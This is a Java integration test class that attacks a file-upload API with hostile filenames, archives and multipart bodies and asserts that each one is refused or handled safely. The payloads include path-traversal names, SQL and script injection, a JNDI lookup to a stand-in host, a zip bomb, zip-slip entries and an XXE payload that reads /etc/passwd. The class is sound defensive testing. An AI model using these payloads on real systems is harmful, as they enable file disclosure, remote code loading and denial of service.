package io.ledgerway.system.hostile;

import static java.nio.charset.StandardCharsets.ISO_8859_1;
import static java.nio.charset.StandardCharsets.UTF_8;
import static org.assertj.core.api.Assertions.assertThat;

import io.ledgerway.system.Customer;
import io.ledgerway.system.running.RunningSystem;
import io.ledgerway.system.running.UncheckedHttp;
import io.ledgerway.system.strict.Api;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.net.URI;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpRequest.BodyPublishers;
import java.net.http.HttpResponse.BodyHandlers;
import java.time.Duration;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.List;
import java.util.Random;
import java.util.zip.ZipEntry;
import java.util.zip.ZipOutputStream;
import org.junit.jupiter.api.Tag;
import org.junit.jupiter.api.Test;

/** Files and multipart bodies that try to leave their folder, to expand, or to confuse a parser. */
@Tag("hostile")
class UploadIT {

    private static final String CSV = "name,amount\nHarbour Bakery,12.50\n";
    private static final String BOUNDARY = "hostile";
    private static final Duration SOON = Duration.ofSeconds(20);

    private final RunningSystem system = RunningSystem.shared();
    private final Api api = new Api(system.gateway(), system.apiKey("other"));
    private final HttpClient http = HttpClient.newHttpClient();
    private final Customer customer = Customer.pending(api, "Uploads", "updo");

    @Test
    void noNameLeavesItsFolder() {
        List<String> names =
                List.of(
                        "../../../../etc/cron.d/x.csv",
                        "..\\..\\windows\\x.csv",
                        "/etc/passwd.csv",
                        "C:\\x.csv",
                        "%2e%2e%2fx.csv",
                        "a/../../b.csv",
                        "..",
                        ".",
                        ".csv",
                        "",
                        "CON.csv",
                        "NUL.csv",
                        "x.csv\u0000.pdf",
                        "x\u202evsc.exe.csv",
                        "x\ny.csv",
                        "x\"; filename=\"y.csv",
                        "x'; DROP TABLE file; --.csv",
                        "<script>alert(1)</script>.csv",
                        "${jndi:ldap://evil.example}.csv",
                        "a".repeat(5000) + ".csv",
                        "\u0444\u0430\u0439\u043b.csv");

        assertThat(Campaign.run(names, it -> sent(it, it, CSV.getBytes(UTF_8)))).isEmpty();

        for (var file : api.get(customer.path() + "/files").body()) {
            assertThat(file.get("fileName").asString())
                    .doesNotContain("/", "\\", "..", "\u0000", "\u202e", "\n", "\"", "<")
                    .hasSizeLessThan(300);
        }
        assertThat(api.document(customer.path() + "/files/download").status()).isEqualTo(200);
    }

    @Test
    void noArchiveExpandsOrEscapes() throws IOException {
        assertThat(
                        Campaign.run(
                                List.of(
                                        new Upload(
                                                "bomb.xlsx",
                                                zip(entries(1), new byte[300_000_000])),
                                        new Upload(
                                                "entries.xlsx", zip(entries(60_000), new byte[0])),
                                        new Upload(
                                                "escape.xlsx",
                                                zip(
                                                        List.of("../../../x", "/y", "..\\z"),
                                                        new byte[9])),
                                        new Upload(
                                                "xxe.xlsx",
                                                zip(List.of("[Content_Types].xml"), XXE)),
                                        new Upload("cut.xlsx", cut(zip(entries(3), new byte[900]))),
                                        new Upload(
                                                "lies.xlsx", lies(zip(entries(3), new byte[900]))),
                                        new Upload("twice.xlsx", zip(entries(2), XXE)),
                                        new Upload(
                                                "program.pdf",
                                                "MZ\u0090\u0000".getBytes(ISO_8859_1)),
                                        new Upload("page.pdf", "<html><script>".getBytes(UTF_8)),
                                        new Upload("picture.png", CSV.getBytes(UTF_8)),
                                        new Upload("empty.pdf", new byte[0]),
                                        new Upload(
                                                "script.svg", "<svg onload='x'/>".getBytes(UTF_8)),
                                        new Upload("page.html", "<html>".getBytes(UTF_8)),
                                        new Upload("program.sh", "#!/bin/sh".getBytes(UTF_8))),
                                this::refused))
                .isEmpty();
        assertThat(api.get(customer.path() + "/files").raw()).doesNotContain("xlsx", "pdf", "png");
    }

    @Test
    void noMultipartBodyIsExpensive() {
        List<String> bodies = new ArrayList<>();
        bodies.add(part(CSV).repeat(21));
        bodies.add(part("x").repeat(5000));
        bodies.add(
                "--hostile\r\nContent-Disposition: form-data; name=\"a\"\r\n\r\nb\r\n"
                        .repeat(5000));
        bodies.add("--hostile\r\nX: " + "a".repeat(1_000_000) + "\r\n\r\nb\r\n");
        bodies.add("--hostile\r\n" + "X: a\r\n".repeat(50_000) + "\r\nb\r\n");
        bodies.add(head("a.csv"));
        bodies.add("--".repeat(100_000));
        bodies.add("\r\n".repeat(100_000));
        bodies.add("--hostile--\r\n" + part(CSV));
        bodies.add("");
        Random random = Campaign.random(UploadIT.class);
        for (int i = 0; i < Campaign.times(10, 500); i++) {
            StringBuilder body = new StringBuilder(part(CSV));
            for (int j = 0; j <= random.nextInt(6); j++) {
                body.setCharAt(random.nextInt(body.length()), (char) random.nextInt(256));
            }
            bodies.add(body.toString());
        }
        assertThat(
                        Campaign.run(
                                bodies,
                                it ->
                                        answered(
                                                it.substring(0, Math.min(60, it.length())),
                                                (it + "--hostile--\r\n").getBytes(ISO_8859_1))))
                .isEmpty();
    }

    /** A file to upload. */
    private static final class Upload {

        private final String name;
        private final byte[] content;

        Upload(String name, byte[] content) {
            this.name = name;
            this.content = content;
        }

        @Override
        public String toString() {
            return name;
        }
    }

    private List<String> refused(Upload upload) {
        int status = upload(body(upload.name, upload.content));
        return status == 400 || status == 413 ? List.of() : List.of(upload + ": " + status);
    }

    private List<String> sent(String what, String name, byte[] content) {
        return answered(what, body(name, content));
    }

    private List<String> answered(String what, byte[] body) {
        long began = System.nanoTime();
        int status = upload(body);
        Duration taken = Duration.ofNanos(System.nanoTime() - began);
        return status < 500 && taken.compareTo(SOON) < 0
                ? List.of()
                : List.of("%s: %d after %s".formatted(what, status, taken));
    }

    private int upload(byte[] body) {
        HttpRequest request =
                HttpRequest.newBuilder(
                                URI.create(
                                        system.gateway()
                                                + customer.path()
                                                + "/connections/"
                                                + customer.connection()
                                                + "/files"))
                        .header("Authorization", Api.basic(system.apiKey("other")))
                        .header("Content-Type", "multipart/form-data; boundary=" + BOUNDARY)
                        .POST(BodyPublishers.ofByteArray(body))
                        .build();
        return UncheckedHttp.send(http, request, BodyHandlers.discarding()).statusCode();
    }

    private static byte[] body(String name, byte[] content) {
        ByteArrayOutputStream body = new ByteArrayOutputStream();
        body.writeBytes(head(name).getBytes(UTF_8));
        body.writeBytes(content);
        body.writeBytes("\r\n--hostile--\r\n".getBytes(UTF_8));
        return body.toByteArray();
    }

    private static String part(String content) {
        return head("a.csv") + content + "\r\n";
    }

    private static String head(String file) {
        return "--hostile\r\nContent-Disposition: form-data; name=\"file\"; filename=\"%s\"\r\n\r\n"
                .formatted(file);
    }

    private static final byte[] XXE =
            """
            <?xml version="1.0"?><!DOCTYPE x [<!ENTITY y SYSTEM "file:///etc/passwd">
            <!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">]><Types>&y;&b;</Types>
            """
                    .getBytes(UTF_8);

    private static List<String> entries(int count) {
        List<String> names = new ArrayList<>();
        for (int i = 0; i < count; i++) {
            names.add("xl/worksheets/sheet" + i + ".xml");
        }
        return names;
    }

    private static byte[] zip(List<String> names, byte[] content) throws IOException {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        try (ZipOutputStream zip = new ZipOutputStream(out)) {
            zip.setLevel(1);
            for (String name : names) {
                zip.putNextEntry(new ZipEntry(name));
                zip.write(content);
                zip.closeEntry();
            }
        }
        return out.toByteArray();
    }

    private static byte[] cut(byte[] zip) {
        return Arrays.copyOf(zip, zip.length / 2);
    }

    /** Entries claim other sizes in the directory at the end. */
    private static byte[] lies(byte[] zip) {
        byte[] changed = zip.clone();
        for (int i = 0; i < changed.length - 30; i++) {
            boolean directory = changed[i] == 'P' && changed[i + 1] == 'K' && changed[i + 2] == 1;
            if (directory) {
                changed[i + 24] = 1;
                changed[i + 25] = 0;
            }
        }
        return changed;
    }
}
